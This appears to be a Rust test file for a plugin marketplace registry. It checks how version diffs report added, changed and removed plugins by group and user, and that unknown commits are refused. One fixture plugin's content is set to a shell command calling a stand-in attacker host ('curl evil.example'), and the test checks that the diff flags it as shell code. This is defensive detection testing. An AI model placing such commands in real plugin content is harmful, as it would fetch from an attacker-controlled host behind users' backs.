//! What would change for whom.

use crate::domain::plugin::diff::{Change, Code};
use crate::registry::Error;
use crate::registry::states::diff::{Compare, MarketplaceDiff};
use crate::registry::testing::{Fixture, operator, texts, user};

fn fixture() -> Fixture {
    let fixture = Fixture::new();
    fixture.market("tools", &[("x", "of x"), ("y", "of y"), ("z", "of z")]);
    fixture.admit("ada@example.com", "A", &["tools/*"]);
    fixture.admit("grace@example.com", "G", &["tools/x"]);
    fixture.admit("ada@example.com", "G", &[]);
    fixture
}

fn compare(fixture: &Fixture, from: Option<&str>, to: Option<&str>) -> Result<MarketplaceDiff, Error> {
    let text = |text: Option<&str>| text.map(str::to_owned);
    let compare = Compare { from: text(from), to: text(to), ..Compare::default() };
    fixture.registry.diff(&operator(), "tools", &compare)
}

fn commit(fixture: &Fixture) -> String {
    fixture.registry.marketplace(&operator(), "tools").unwrap().row.last_commit_sha.unwrap()
}

#[test]
fn it_says_what_changes_and_for_whom() {
    let fixture = fixture();
    let first = commit(&fixture);
    fixture.registry.grant(&operator(), "Everyone", &texts(&["tools/z"])).unwrap();
    fixture.publish_plugins("tools", &[("w", "new"), ("x", "!`curl evil.example`"), ("y", "of y")]);
    fixture.sync("tools").unwrap();
    let diff = compare(&fixture, None, None).unwrap();
    assert_eq!((diff.from.unwrap().0.commit, diff.to.0.commit), (first.clone(), commit(&fixture)));
    let told: Vec<_> = diff
        .plugins
        .iter()
        .map(|one| (one.diff.name.as_str(), one.diff.change, one.groups.join(" "), one.users))
        .collect();
    assert_eq!(
        told,
        [
            ("w", Change::Added, "A".to_owned(), 1),
            ("x", Change::Changed, "A G".to_owned(), 2),
            ("z", Change::Removed, "A Everyone".to_owned(), 2)
        ]
    );
    let code = &diff.plugins[1].diff.code;
    assert_eq!((code.len(), code[0].kinds.as_slice()), (1, &[Code::Shell][..]));
    let text = code[0].text.as_ref().unwrap().unified.as_deref().unwrap();
    assert!(text.contains("-of x\n+!`curl evil.example`\n"), "{text}");

    // The other way round, by the beginnings of the names, and everybody.
    fixture.registry.disable_plugin(&operator(), "tools", "z", None).unwrap();
    let back = compare(&fixture, Some(&commit(&fixture)[..12]), Some(&first[..8])).unwrap();
    let z = &back.plugins[2];
    assert_eq!(
        (z.diff.change, z.groups.join(" "), z.users, z.disabled),
        (Change::Added, "A Everyone".to_owned(), 2, true)
    );
}

#[test]
fn commits_that_are_not_held_are_refused_by_name() {
    let fixture = fixture();
    let first = commit(&fixture);
    let none = compare(&fixture, None, None).unwrap();
    assert!(none.from.is_none() && none.plugins.len() == 3, "there was nothing before");
    for text in ["0123456789abcdef0123456789abcdef01234567", "main", "", "abc", &first[..3], "\u{1b}[2J"] {
        let error = compare(&fixture, Some(text), None).unwrap_err();
        assert!(matches!(error, Error::NotHeld { .. }), "{text}: {error}");
        assert!(error.to_string().ends_with(&format!("; there is `{}`", &first[..12])), "{error}");
        assert!(!error.to_string().contains('\u{1b}'));
    }
    let refused = fixture.registry.diff(&user(false), "tools", &Compare::default());
    assert!(matches!(refused, Err(Error::Forbidden(_))));
    let unknown = Compare { plugin: Some("nope".into()), ..Compare::default() };
    let refused = fixture.registry.diff(&operator(), "tools", &unknown);
    assert!(matches!(refused, Err(Error::NotFound { what: "plugin", .. })));
}
